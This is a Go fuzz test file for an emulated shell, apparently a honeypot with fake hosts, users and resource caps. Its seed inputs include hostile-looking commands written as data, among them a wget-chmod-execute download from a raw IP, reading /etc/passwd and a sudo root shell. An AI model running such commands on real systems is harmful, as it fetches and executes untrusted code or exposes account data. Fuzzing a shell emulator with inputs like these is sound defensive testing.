package shell

import (
	"bytes"
	"context"
	"io"
	"testing"
	"time"
)

func FuzzExec(f *testing.F) {
	for _, seed := range []string{
		"uname -a", "cat /etc/passwd | grep root | awk -F: '{print $1,$NF}'", "cd /tmp; wget http://1.2.3.4/x; chmod 777 x; ./x",
		"echo $(echo $(echo `whoami`))", "echo ${HOME:-x} ${#PATH} $((1/0)) $((", "a && b || c ; d | e & f",
		"echo 'unterminated", "echo \"$(", "ls -la /proc/self/", "cp -r / /tmp/x", "find / -name '*'",
		"x=1 y=2; echo $x$y", "echo */*/*", "echo > ; ", ">", "2>&1 | |", "cat < /etc/hostname", "echo \\",
		"printf '%s %d %b\\n' a 1 '\\x41'", "echo -e '\\x1b[31mred'", "sudo -u root bash -c 'id'",
		"base64 -d <<< aGVsbG8=", "eval 'echo $(echo hi)'", "alias x='x'; x", "ln -s /tmp/l /tmp/l; cat /tmp/l",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, line string) {
		s := New(Options{Hostname: "fz", User: "root", Distro: testDebian, IP: "10.0.0.2",
			Now: func() time.Time { return fixedNow }})
		out, _ := s.Exec(line)
		if len(out) > maxOutput {
			t.Fatalf("output of %d bytes exceeds the cap", len(out))
		}
		// Run it twice more (state carried over) and as a non-root user.
		s.Exec(line)
		u := New(Options{Hostname: "fz", User: "bob", Distro: testAlpine, IP: "10.0.0.3",
			Now: func() time.Time { return fixedNow }})
		if out, _ := u.Exec(line); len(out) > maxOutput {
			t.Fatalf("output of %d bytes exceeds the cap", len(out))
		}
		if s.fs.usedBytes > maxOverlayBytes || s.fs.usedNodes > maxOverlayNodes || len(s.history) > maxHistory {
			t.Fatalf("session bounds exceeded: %d bytes %d nodes %d history", s.fs.usedBytes, s.fs.usedNodes, len(s.history))
		}
	})
}

func FuzzInteract(f *testing.F) {
	for _, seed := range [][]byte{
		[]byte("id\r"), []byte("ls\x7f\x7fpwd\r\n"), []byte("\x1b[A\x1b[B\x1bOA\x1b[200~echo x\x1b[201~\r"),
		[]byte("echo 'a\r\x03\x04"), []byte("sudo id\rpw\r"), []byte("\x1b"), []byte("\x1b[" + string(bytes.Repeat([]byte("1;"), 40))),
		[]byte("su\r\x03exit\r"), []byte("\xff\xfe\xc3\x28\r"), []byte("passwd\rnew\rnew\r"), []byte("\x15\x17\x0c\t\r"),
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		s := New(Options{Hostname: "fz", User: "bob", Distro: testUbuntu, IP: "10.0.0.2",
			Now: func() time.Time { return fixedNow }})
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		var out bytes.Buffer
		err := s.Interact(ctx, pipeRW{r: bytes.NewReader(in), w: &out}, true)
		if err != nil {
			t.Fatalf("Interact on a finite stream returned %v", err)
		}
		_ = io.Discard
	})
}

func FuzzLex(f *testing.F) {
	for _, seed := range []string{"a 'b' \"c $d\" $(e) `f` ${g}", "a>b 2>&1 &>c <d <<<e", "((", "\\\n", "#c\nx"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, src string) {
		toks, err := lex(src)
		if err != nil {
			return
		}
		items, err := parse(toks)
		if err != nil {
			return
		}
		for _, it := range items {
			if len(it.pl.cmds) == 0 {
				t.Fatalf("empty pipeline parsed from %q", src)
			}
		}
	})
}
